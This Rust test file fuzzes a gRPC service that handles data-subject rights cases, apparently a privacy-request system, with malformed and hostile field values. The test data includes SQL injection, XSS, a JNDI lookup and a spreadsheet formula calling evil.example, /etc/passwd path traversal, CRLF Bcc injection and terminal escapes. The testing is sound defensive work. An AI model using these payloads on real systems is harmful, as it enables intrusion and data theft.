//! Good gRPC with bad content: every kind of field, as people and programs get it wrong, and as somebody would who tries.

use rightful::proto::{
    downstream::v1::{Ground, Identifier, Right, Subject},
    v1::{
        AcknowledgeCaseRequest, ApproveCaseRequest, CancelCaseRequest, CategoryScope, ConfirmSubjectRequest,
        Correction, DescribeDownstreamRequest, DownloadExportRequest, EnableWebhookRequest, Evidence,
        ExtendDeadlineRequest, GetCaseRequest, GetGuardianRequest, GetHoldRequest, GetReceiptRequest,
        GetSweepRequest, ListCasesRequest, ListDownstreamsRequest, ListHoldsRequest, ListNoticesRequest,
        ListSweepsRequest, OpenCaseRequest, PauseClockRequest, PauseDownstreamRequest, PlaceHoldRequest,
        PlanSweepRequest, PreviewCaseRequest, RefuseCaseRequest, ReleaseHoldRequest, ResolveTaskRequest,
        ResumeClockRequest, RetryTaskRequest, RunSweepRequest, Scope, TaskResolution, WatchCaseRequest,
        resolve_task_request::Item,
    },
};

use super::{Arena, answer};
use crate::{
    canary::CANARY,
    harness::{opening, subject},
};

fn base() -> OpenCaseRequest {
    opening(Right::Access, &[("email", "abuse@example.org")])
}

fn by(kind: &str, value: &str) -> OpenCaseRequest {
    OpenCaseRequest { subject: Some(subject(&[(kind, value)])), ..base() }
}

/// Openings with one thing wrong, or strange.
#[expect(clippy::too_many_lines, reason = "a table: one row for each case")]
pub async fn openings(arena: &Arena<'_>) {
    let email = |value: &str| by("email", value);
    let labelled = |key: &str, value: &str| {
        let labels = [(key.to_owned(), value.to_owned())].into();
        OpenCaseRequest { labels, ..base() }
    };
    let identifier = Identifier { kind: "email".into(), value: "abuse@example.org".into() };
    let correction = |field: &str, json: &str| OpenCaseRequest {
        right: Right::Rectification.into(),
        corrections: vec![Correction {
            category: "invoices".into(),
            field: field.into(),
            new_json: json.into(),
            ..Correction::default()
        }],
        ..base()
    };
    let long = "x".repeat(5_000);
    let at = |seconds, nanos| OpenCaseRequest {
        received_time: Some(prost_types::Timestamp { seconds, nanos }),
        ..base()
    };
    let scope = |downstreams: &[&str], categories: &[&str]| OpenCaseRequest {
        scope: Some(Scope {
            downstreams: downstreams.iter().map(|&name| name.to_owned()).collect(),
            categories: [CategoryScope {
                downstream: "billing".into(),
                categories: categories.iter().map(|&name| name.to_owned()).collect(),
            }]
            .into_iter()
            .filter(|scope| !scope.categories.is_empty())
            .collect(),
        }),
        ..base()
    };
    for (name, request) in vec![
        ("nothing", OpenCaseRequest::default()),
        ("no request id", OpenCaseRequest { request_id: String::new(), ..base() }),
        ("a request id of 5,000 bytes", OpenCaseRequest { request_id: long.clone(), ..base() }),
        ("a request id with a line break", OpenCaseRequest { request_id: "a\nb".into(), ..base() }),
        ("a request id with a zero", OpenCaseRequest { request_id: "a\0b".into(), ..base() }),
        ("an unknown right", OpenCaseRequest { right: 9_999, ..base() }),
        ("a negative right", OpenCaseRequest { right: -1, ..base() }),
        ("no subject", OpenCaseRequest { subject: None, ..base() }),
        ("a subject of nothing", OpenCaseRequest { subject: Some(Subject::default()), ..base() }),
        (
            "33 identifiers",
            OpenCaseRequest {
                subject: Some(Subject {
                    identifiers: (0..33)
                        .map(|at| Identifier { value: format!("a{at}@example.org"), ..identifier.clone() })
                        .collect(),
                }),
                ..base()
            },
        ),
        (
            "the same identifier twice",
            OpenCaseRequest { subject: Some(Subject { identifiers: vec![identifier.clone(); 2] }), ..base() },
        ),
        ("an identifier of no kind", by("", "x")),
        ("a kind in capitals", by("Email", "a@example.org")),
        ("a kind with a slash", by("../email", "a@example.org")),
        ("a kind of 5,000 bytes", by(&long, "x")),
        ("a kind that is somebody", by(&format!("{CANARY}@example.org"), "x")),
        ("an address of nothing", email("")),
        ("an address without an at", email(CANARY)),
        ("an address of two ats", email(&format!("{CANARY}@a@example.org"))),
        ("an address of 5,000 bytes", email(&format!("{long}@example.org"))),
        ("an address with a line break", email(&format!("{CANARY}@example.org\r\nBcc: x@example.org"))),
        ("an address with a zero", email(&format!("{CANARY}\0@example.org"))),
        ("an address with a terminal's escape", email(&format!("\u{1b}[31m{CANARY}@example.org"))),
        ("an address written from right to left", email(&format!("\u{202e}{CANARY}@example.org"))),
        ("an address with nothing to see", email(&format!("{CANARY}\u{200b}@example.org"))),
        ("an address with spaces around", email(&format!("  {CANARY}@example.org  "))),
        ("a quote that ends SQL", email(&format!("'or'1'='1{CANARY}@example.org"))),
        ("a phone of letters", by("phone", CANARY)),
        ("a phone of 40 digits", by("phone", &format!("+{}", "1".repeat(40)))),
        ("a customer that drops tables", by("customer_id", "x'; DROP TABLE cases; --")),
        ("a customer that is HTML", by("customer_id", "<img src=x onerror=alert(1)>")),
        ("a customer that is a formula", by("customer_id", "=HYPERLINK(\"http://evil.example\",\"x\")")),
        ("a customer that is a path", by("customer_id", "../../../etc/passwd")),
        ("a customer that is a lookup", by("customer_id", "${jndi:ldap://evil.example/a}")),
        ("a customer that is a template", by("customer_id", "{{7*7}}{% raw %}")),
        ("a customer that is a format", by("customer_id", "%s%s%s%n{0}{}")),
        ("a customer of an emoji of many parts", by("customer_id", "👩‍👩‍👧‍👦")),
        ("a customer of combining marks", by("customer_id", &format!("e{}", "\u{301}".repeat(100)))),
        ("a customer that is no text", by("customer_id", "\u{fffe}\u{ffff}")),
        (
            "33 labels",
            OpenCaseRequest {
                labels: (0..33).map(|at| (format!("l{at}"), String::new())).collect(),
                ..base()
            },
        ),
        ("a label of no name", labelled("", "x")),
        ("a label of 5,000 bytes", labelled("x", &long)),
        ("a label whose name is somebody", labelled(&format!("{CANARY}@example.org"), "x")),
        ("a label with a line break", labelled("x", "a\nb")),
        ("received before there were days", at(-99_999_999_999, 0)),
        ("received in a century", at(4_102_444_800, 0)),
        ("received in the year 300,000", at(9_999_999_999_999, 0)),
        ("received with two seconds of nanoseconds", at(1_700_000_000, 2_000_000_000)),
        ("received with nanoseconds below zero", at(1_700_000_000, -1)),
        ("a channel of 5,000 bytes", OpenCaseRequest { channel: long.clone(), ..base() }),
        (
            "a policy version with an escape",
            OpenCaseRequest { policy_version: "\u{1b}]0;x".into(), ..base() },
        ),
        ("an unknown regime", OpenCaseRequest { regimes: vec!["lex_talionis".into()], ..base() }),
        ("the same regime a hundred times", OpenCaseRequest { regimes: vec!["gdpr".into(); 100], ..base() }),
        ("an unknown downstream", scope(&["nobody"], &[])),
        ("a downstream that is a path", scope(&["../billing"], &[])),
        ("a category that is a pattern", scope(&[], &["*"])),
        ("1,000 categories", scope(&[], &["x"; 1_000])),
        ("evidence of nothing", OpenCaseRequest { evidence: vec![Evidence::default()], ..base() }),
        ("100 pieces of evidence", OpenCaseRequest { evidence: vec![Evidence::default(); 100], ..base() }),
        (
            "corrections of an access",
            OpenCaseRequest { right: Right::Access.into(), ..correction("/a", "1") },
        ),
        (
            "no correction of a rectification",
            OpenCaseRequest { right: Right::Rectification.into(), ..base() },
        ),
        ("a correction that is no JSON", correction("/a", CANARY)),
        ("a correction 1,000 deep", correction("/a", &"[".repeat(1_000))),
        ("a correction of a number beyond all", correction("/a", "1e999999")),
        ("a correction of 5,000 bytes of path", correction(&format!("/{long}"), "1")),
        ("a correction of half a surrogate", correction("/a", "\"\\ud800\"")),
        ("a correction of no pointer", correction("a", "1")),
        ("a use of an access", OpenCaseRequest { uses: vec![1], ..base() }),
        ("a purpose of an access", OpenCaseRequest { purposes: vec![CANARY.into()], ..base() }),
        ("a lift of an access", OpenCaseRequest { lift: true, ..base() }),
        ("a guardian of an adult", OpenCaseRequest { guardian: base().subject, ..base() }),
        (
            "a guardian of nothing",
            OpenCaseRequest { minor: true, guardian: Some(Subject::default()), ..base() },
        ),
    ] {
        arena.note("openings", name, answer(arena.cases().open_case(request).await));
    }
    let good = base();
    arena.cases().open_case(good.clone()).await.expect("a good one is opened");
    let other = OpenCaseRequest { right: Right::Erasure.into(), ..good };
    arena.note(
        "openings",
        "a request id again, of another right",
        answer(arena.cases().open_case(other).await),
    );
    let preview = PreviewCaseRequest { right: 77, ..PreviewCaseRequest::default() };
    arena.note("openings", "a preview of nothing", answer(arena.cases().preview_case(preview).await));
}

/// What stands in for an id.
const IDS: [(&str, &str); 6] = [
    ("no id", ""),
    ("an id that is none", "42"),
    ("an id of zeros", "00000000-0000-0000-0000-000000000000"),
    ("an id that is a path", "../../0199aaaa-0000-7000-8000-000000000000"),
    ("an id that is SQL", "0199aaaa-0000-7000-8000-000000000000' OR '1'='1"),
    ("an id that is somebody", "zq7canary7qz@example.org"),
];

/// Every RPC that takes an id of a case, with what is none.
pub async fn ids(arena: &Arena<'_>) {
    for (name, id) in IDS {
        let id = || id.to_owned();
        let mut cases = arena.cases();
        let get = cases.get_case(GetCaseRequest { case_id: id() }).await;
        arena.note("ids", &format!("GetCase, {name}"), answer(get));
        let watch = cases.watch_case(WatchCaseRequest { case_id: id() }).await;
        arena.note("ids", &format!("WatchCase, {name}"), answer(watch));
        let cancel = cases.cancel_case(CancelCaseRequest { case_id: id() }).await;
        arena.note("ids", &format!("CancelCase, {name}"), answer(cancel));
        let retry = cases.retry_task(RetryTaskRequest { task_id: id() }).await;
        arena.note("ids", &format!("RetryTask, {name}"), answer(retry));
        let download = cases.download_export(DownloadExportRequest { case_id: id(), offset: u64::MAX }).await;
        arena.note("ids", &format!("DownloadExport, {name}"), answer(download));
        let receipt = cases.get_receipt(GetReceiptRequest { case_id: id() }).await;
        arena.note("ids", &format!("GetReceipt, {name}"), answer(receipt));
        let guardian = cases.get_guardian(GetGuardianRequest { case_id: id() }).await;
        arena.note("ids", &format!("GetGuardian, {name}"), answer(guardian));
        let confirm = ConfirmSubjectRequest { case_id: id(), ..ConfirmSubjectRequest::default() };
        arena.note("ids", &format!("ConfirmSubject, {name}"), answer(cases.confirm_subject(confirm).await));
        let approve = ApproveCaseRequest { case_id: id(), note: String::new() };
        arena.note("ids", &format!("ApproveCase, {name}"), answer(cases.approve_case(approve).await));
        let refuse = RefuseCaseRequest { case_id: id(), ground: Some(Ground::default()) };
        arena.note("ids", &format!("RefuseCase, {name}"), answer(cases.refuse_case(refuse).await));
        let extend = ExtendDeadlineRequest { case_id: id(), ground: 99, ..ExtendDeadlineRequest::default() };
        arena.note("ids", &format!("ExtendDeadline, {name}"), answer(cases.extend_deadline(extend).await));
        let acknowledge = AcknowledgeCaseRequest { case_id: id(), told_time: None };
        arena.note(
            "ids",
            &format!("AcknowledgeCase, {name}"),
            answer(cases.acknowledge_case(acknowledge).await),
        );
        let pause = PauseClockRequest { case_id: id(), ground: 99 };
        arena.note("ids", &format!("PauseClock, {name}"), answer(cases.pause_clock(pause).await));
        let resume = cases.resume_clock(ResumeClockRequest { case_id: id() }).await;
        arena.note("ids", &format!("ResumeClock, {name}"), answer(resume));
        let hold = arena.holds().get_hold(GetHoldRequest { hold_id: id() }).await;
        arena.note("ids", &format!("GetHold, {name}"), answer(hold));
        let release = ReleaseHoldRequest { hold_id: id(), note: String::new() };
        arena.note("ids", &format!("ReleaseHold, {name}"), answer(arena.holds().release_hold(release).await));
        let sweep = arena.retention().get_sweep(GetSweepRequest { sweep_id: id() }).await;
        arena.note("ids", &format!("GetSweep, {name}"), answer(sweep));
        let run = RunSweepRequest { sweep_id: id(), despite_holds: true };
        arena.note("ids", &format!("RunSweep, {name}"), answer(arena.retention().run_sweep(run).await));
    }
}

/// Lists, names and notes.
#[expect(clippy::too_many_lines, reason = "a table: one row for each case")]
pub async fn others(arena: &Arena<'_>) {
    let token = |token: &str| ListCasesRequest { page_token: token.into(), ..ListCasesRequest::default() };
    let long = "x".repeat(5_000);
    for (name, request) in [
        ("a page token that is none", token("next")),
        ("a page token of SQL", token("' UNION SELECT * FROM subjects --")),
        ("a page token of 5,000 bytes", token(&long)),
        ("a page token that is base64 of nothing", token("AAAAAAAAAAAAAAAA")),
        ("a page of four billion", ListCasesRequest { page_size: u32::MAX, ..ListCasesRequest::default() }),
        ("an unknown state", ListCasesRequest { states: vec![99], ..ListCasesRequest::default() }),
        ("10,000 states", ListCasesRequest { states: vec![1; 10_000], ..ListCasesRequest::default() }),
        ("an unknown right", ListCasesRequest { right: 99, ..ListCasesRequest::default() }),
        (
            "a downstream that is a pattern",
            ListCasesRequest { downstream: "%".into(), ..ListCasesRequest::default() },
        ),
        (
            "a time without an end",
            ListCasesRequest {
                due_before_time: Some(prost_types::Timestamp { seconds: i64::MAX, nanos: 0 }),
                ..ListCasesRequest::default()
            },
        ),
        (
            "an identifier of nothing",
            ListCasesRequest { identifier: Some(Identifier::default()), ..ListCasesRequest::default() },
        ),
        (
            "an identifier that is a pattern",
            ListCasesRequest {
                identifier: Some(Identifier { kind: "email".into(), value: "%@example.org".into() }),
                ..ListCasesRequest::default()
            },
        ),
    ] {
        arena.note("lists", name, answer(arena.cases().list_cases(request).await));
    }
    let holds = ListHoldsRequest { page_token: CANARY.into(), ..ListHoldsRequest::default() };
    arena.note("lists", "holds by a token that is somebody", answer(arena.holds().list_holds(holds).await));
    let sweeps = ListSweepsRequest { page_token: CANARY.into(), ..ListSweepsRequest::default() };
    arena.note(
        "lists",
        "sweeps by a token that is none",
        answer(arena.retention().list_sweeps(sweeps).await),
    );
    let downstreams =
        ListDownstreamsRequest { page_token: long.clone(), ..ListDownstreamsRequest::default() };
    let listed = arena.downstreams().list_downstreams(downstreams).await;
    arena.note("lists", "downstreams by a token of 5,000 bytes", answer(listed));
    let notices = ListNoticesRequest { notice_types: vec![-7], ..ListNoticesRequest::default() };
    arena.note("lists", "notices of an unknown type", answer(arena.notices().list_notices(notices).await));
    let later = ListNoticesRequest { after_sequence: u64::MAX, ..ListNoticesRequest::default() };
    arena.note("lists", "notices after the last of all", answer(arena.notices().list_notices(later).await));

    for (name, downstream) in [
        ("nobody", ""),
        ("a path", "../billing"),
        ("somebody", "zq7canary7qz@example.org"),
        ("capitals", "BILLING"),
        ("an unknown one", "nobody"),
    ] {
        let described = DescribeDownstreamRequest { name: downstream.into() };
        let described = answer(arena.downstreams().describe_downstream(described).await);
        arena.note("names", &format!("DescribeDownstream, {name}"), described);
        let plan = PlanSweepRequest { downstream: downstream.into() };
        arena.note("names", &format!("PlanSweep, {name}"), answer(arena.retention().plan_sweep(plan).await));
        let webhook = EnableWebhookRequest { name: downstream.into() };
        arena.note(
            "names",
            &format!("EnableWebhook, {name}"),
            answer(arena.notices().enable_webhook(webhook).await),
        );
    }
    let pause = PauseDownstreamRequest { name: "billing".into(), note: long.clone() };
    let paused = answer(arena.downstreams().pause_downstream(pause).await);
    arena.note("names", "PauseDownstream, a note of 5,000 bytes", paused);
    let hold = |change: &dyn Fn(&mut PlaceHoldRequest)| {
        let mut request = PlaceHoldRequest {
            request_id: uuid::Uuid::from_bytes(rand::random()).to_string(),
            subject: base().subject,
            ground: Some(Ground::default()),
            matter: "M-1".into(),
            note: String::new(),
        };
        change(&mut request);
        request
    };
    for (name, request) in [
        ("on no ground", hold(&|request| request.ground = None)),
        (
            "on an unknown ground",
            hold(&|request| {
                request.ground = Some(Ground { code: 99, ..Ground::default() });
            }),
        ),
        ("of nobody", hold(&|request| request.subject = None)),
        ("in a matter of 5,000 bytes", hold(&|request| request.matter = "m".repeat(5_000))),
        ("with a note of zeros", hold(&|request| request.note = "\0\0".into())),
    ] {
        arena.note("holds", name, answer(arena.holds().place_hold(request).await));
    }
    let said = |task_id: &str| {
        let resolution = TaskResolution { task_id: task_id.into(), ..TaskResolution::default() };
        ResolveTaskRequest { item: Some(Item::Resolution(resolution)) }
    };
    for (name, items) in [
        ("nothing", vec![]),
        ("an item of nothing", vec![ResolveTaskRequest { item: None }]),
        ("a resolution of no task", vec![said("")]),
        ("a resolution twice", vec![said(IDS[2].1), said(IDS[2].1)]),
    ] {
        let resolved = arena.cases().resolve_task(futures::stream::iter(items)).await;
        arena.note("by hand", name, answer(resolved));
    }
}
